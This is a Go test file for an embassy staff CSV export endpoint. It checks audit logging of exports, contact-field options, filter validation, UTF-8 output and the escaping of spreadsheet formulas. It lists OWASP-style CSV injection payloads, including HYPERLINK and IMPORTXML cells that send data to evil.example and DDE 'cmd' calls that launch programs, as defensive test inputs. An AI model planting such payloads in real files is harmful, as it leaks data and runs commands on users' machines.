package staff_test

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/pocketbase/dbx"
	"github.com/pocketbase/pocketbase/tests"
)

// exportEvents are the hooks one export triggers: the export event's save.
var exportEvents = map[string]int{
	"*": 0, "OnModelCreate": 1, "OnModelCreateExecute": 1, "OnModelAfterCreateSuccess": 1, "OnModelValidate": 1,
	"OnRecordCreate": 1, "OnRecordCreateExecute": 1, "OnRecordAfterCreateSuccess": 1, "OnRecordValidate": 1,
}

func TestExport(t *testing.T) {
	t.Parallel()
	scenarios := []tests.ApiScenario{
		as(staffX, tests.ApiScenario{
			Name:               "contact fields are left out by default, and the export is logged",
			Method:             http.MethodGet,
			URL:                "/api/staff/export.csv",
			ExpectedStatus:     http.StatusOK,
			ExpectedContent:    []string{reportX, messageTextX},
			NotExpectedContent: []string{"contact_phone", contactPhoneX, "contact_name", "Ani"},
			ExpectedEvents:     exportEvents,
			AfterTestFunc: func(t testing.TB, app *tests.TestApp, res *http.Response) {
				if ct := res.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
					t.Fatalf("content type %q", ct)
				}
				ev := findEvents(t, app, dbx.HashExp{"kind": "export", "embassy": embassyX})
				if len(ev) != 1 || ev[0].GetString("actor") != staffX || !strings.Contains(ev[0].GetString("note"), "without contact") {
					t.Fatalf("want one export event by staff X without contact fields, got %d", len(ev))
				}
			},
		}),
		as(staffX, tests.ApiScenario{
			Name:            "contact fields when asked, and the event says so",
			Method:          http.MethodGet,
			URL:             "/api/staff/export.csv?contact=1",
			ExpectedStatus:  http.StatusOK,
			ExpectedContent: []string{"contact_phone", contactPhoneX, "Ani"},
			ExpectedEvents:  exportEvents,
			AfterTestFunc: func(t testing.TB, app *tests.TestApp, res *http.Response) {
				ev := findEvents(t, app, dbx.HashExp{"kind": "export"})
				if len(ev) != 1 || !strings.Contains(ev[0].GetString("note"), "WITH contact") {
					t.Fatal("the export event does not say contact fields were exported")
				}
			},
		}),
		as(staffX, tests.ApiScenario{
			Name:   "the filter of the list applies",
			Method: http.MethodGet,
			URL:    "/api/staff/export.csv?filter=" + urlq(`status="closed"`),
			BeforeTestFunc: saveReport("reportx0000000000003", embassyX, map[string]any{
				"status": "closed", "message": "=HYPERLINK(\"http://evil\")",
			}),
			ExpectedStatus:     http.StatusOK,
			ExpectedContent:    []string{"reportx0000000000003", `'=HYPERLINK`},
			NotExpectedContent: []string{reportX + ","},
			ExpectedEvents:     exportEvents,
			AfterTestFunc: func(t testing.TB, app *tests.TestApp, res *http.Response) {
				ev := findEvents(t, app, dbx.HashExp{"kind": "export"})
				if len(ev) != 1 || !strings.Contains(ev[0].GetString("note"), `status="closed"`) {
					t.Fatal("the export event does not record the filter")
				}
			},
		}),
		as(staffX, tests.ApiScenario{
			Name:            "a broken filter is refused and not logged",
			Method:          http.MethodGet,
			URL:             "/api/staff/export.csv?filter=" + urlq(`status=`),
			ExpectedStatus:  http.StatusBadRequest,
			ExpectedContent: []string{`"message":"The filter is not valid."`},
			ExpectedEvents:  map[string]int{"*": 0},
		}),
		as(staffX, tests.ApiScenario{
			// It exported without the contact columns, as if not asked.
			Name:               "a contact that is not yes or no is refused and not logged",
			Method:             http.MethodGet,
			URL:                "/api/staff/export.csv?contact=yes",
			ExpectedStatus:     http.StatusBadRequest,
			ExpectedContent:    []string{`"contact":{"code":"validation_invalid_bool","message":"Must be 1, 0, true or false."}`},
			NotExpectedContent: []string{reportX},
			ExpectedEvents:     map[string]int{"*": 0},
		}),
	}
	for _, s := range scenarios {
		s.Test(t)
	}
}

func TestExportRowsParseAsCSV(t *testing.T) {
	t.Parallel()
	app := newApp(t)
	srv := startServer(t, app)
	res := get(t, srv+"/api/staff/export.csv", token(t, app, staffX))
	defer res.Body.Close()
	rows := readExport(t, res.Body)
	if len(rows) != 2 {
		t.Fatalf("want a header and one report, got %d rows", len(rows))
	}
	if len(rows[0]) != len(rows[1]) || rows[0][0] != "id" || rows[1][0] != reportX {
		t.Fatalf("unexpected rows %q", rows)
	}
	_, _ = io.Copy(io.Discard, res.Body)
}

// formulaPayloads are cells a spreadsheet would run as a formula, after the
// OWASP CSV injection list, with the characters spreadsheets skip or fold
// in front of them.
var formulaPayloads = []string{
	`=1+2`,
	`=HYPERLINK("http://evil.example/?d="&A1,"Open")`,
	` =HYPERLINK("http://evil.example/","Open")`,
	"  \t=1+2",
	"\t=1+2",
	"\r=1+2",
	"\n=1+2",
	"\r\n@SUM(1+1)",
	`+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`=cmd|' /C notepad'!'A1'`,
	`=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")`,
	"\u00a0=1+2",       // no-break space
	"\u3000＝1+2",       // ideographic space, full-width equals
	"＋1+2",             // full-width plus
	"－1+2",             // full-width minus
	"＠SUM(1)",          // full-width at
	"\u2212" + "1+2",   // minus sign
	"\ufe62" + "1+2",   // small plus
	"\u200b=1+2",       // zero-width space
	"\ufeff=1+2",       // a byte-order mark inside the text
	"\u2003\u2009-1+2", // em space, thin space
}

// plainCells must come out as typed: text is escaped only where it could
// start a formula.
var plainCells = []string{"hello", "a=b", " hello", "5 - 6 people", "Hà Nội", "ကျွန်တော်", "ខ្ញុំ", "ผม"}

// textColumns are the exported columns a reporter or volunteer types
// freely, with their length limits.
var textColumns = map[string]int{"message": 5000, "compound_location": 500, "current_location": 500,
	"contact_name": 100, "contact_phone": 40, "contact_app": 120}

// cut returns the first n characters of s.
func cut(s string, n int) string {
	r := []rune(s)
	return string(r[:min(n, len(r))])
}

func TestExportNeutralisesFormulasInEveryColumn(t *testing.T) {
	t.Parallel()
	app := newApp(t)
	cells := append(append([]string{}, formulaPayloads...), plainCells...)
	for i, s := range cells {
		data := map[string]any{"people_count": 1}
		for c, n := range textColumns {
			data[c] = cut(s, n)
		}
		saveReport(fmt.Sprintf("reportx3%012d", i), embassyX, data)(t, app, nil)
	}
	srv := startServer(t, app)
	res := get(t, srv+"/api/staff/export.csv?contact=1", token(t, app, staffX))
	defer res.Body.Close()
	rows := readExport(t, res.Body)
	col := map[string]int{}
	for i, name := range rows[0] {
		col[name] = i
	}
	byId := map[string][]string{}
	for _, r := range rows[1:] {
		byId[r[col["id"]]] = r
	}
	for i, s := range cells {
		row := byId[fmt.Sprintf("reportx3%012d", i)]
		if row == nil {
			t.Fatalf("report %d missing from the export", i)
		}
		for c, n := range textColumns {
			want := cut(s, n)
			if i < len(formulaPayloads) {
				want = "'" + want
			}
			// encoding/csv reads a quoted CRLF as LF, as RFC 4180 allows.
			want = strings.ReplaceAll(want, "\r\n", "\n")
			if got := row[col[c]]; got != want {
				t.Errorf("%s of %q exported as %q, want %q", c, s, got, want)
			}
		}
	}
}

func TestExportStartsWithAByteOrderMarkAndIsUTF8(t *testing.T) {
	t.Parallel()
	app := newApp(t)
	saveReport("reportx4000000000001", embassyX, map[string]any{"people_count": 1, "message": "ကျွန်တော်တို့ ခြောက်ယောက် ខ្ញុំ ผม"})(t, app, nil)
	srv := startServer(t, app)
	res := get(t, srv+"/api/staff/export.csv", token(t, app, staffX))
	defer res.Body.Close()
	raw, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(raw, []byte{0xef, 0xbb, 0xbf}) {
		t.Fatalf("the export starts with % x, not the UTF-8 byte-order mark", raw[:min(3, len(raw))])
	}
	if !utf8.Valid(raw) {
		t.Fatal("the export is not valid UTF-8")
	}
	if bytes.Count(raw, []byte{0xef, 0xbb, 0xbf}) != 1 {
		t.Fatal("the byte-order mark appears more than once")
	}
	rows := readExport(t, bytes.NewReader(raw))
	if rows[0][0] != "id" || !strings.Contains(string(raw), "ကျွန်တော်တို့ ခြောက်ယောက် ខ្ញុំ ผม") {
		t.Fatalf("header %q, or the Burmese, Khmer and Thai text did not survive", rows[0])
	}
}
